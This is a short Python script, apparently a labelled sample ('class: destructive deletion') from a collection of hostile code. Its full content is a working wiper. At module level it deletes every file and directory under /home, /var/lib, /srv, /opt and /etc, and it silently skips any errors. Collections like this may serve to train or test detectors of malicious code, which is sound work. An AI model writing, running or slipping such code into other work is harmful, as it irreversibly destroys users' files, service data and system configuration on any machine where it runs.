# class: destructive deletion; style: tidy
import os
import shutil

TARGETS = ["/home", "/var/lib", "/srv", "/opt", "/etc"]


def destroy(path):
    for entry in os.scandir(path):
        try:
            if entry.is_dir(follow_symlinks=False):
                shutil.rmtree(entry.path, ignore_errors=True)
            else:
                os.unlink(entry.path)
        except OSError:
            continue


for target in TARGETS:
    destroy(target)
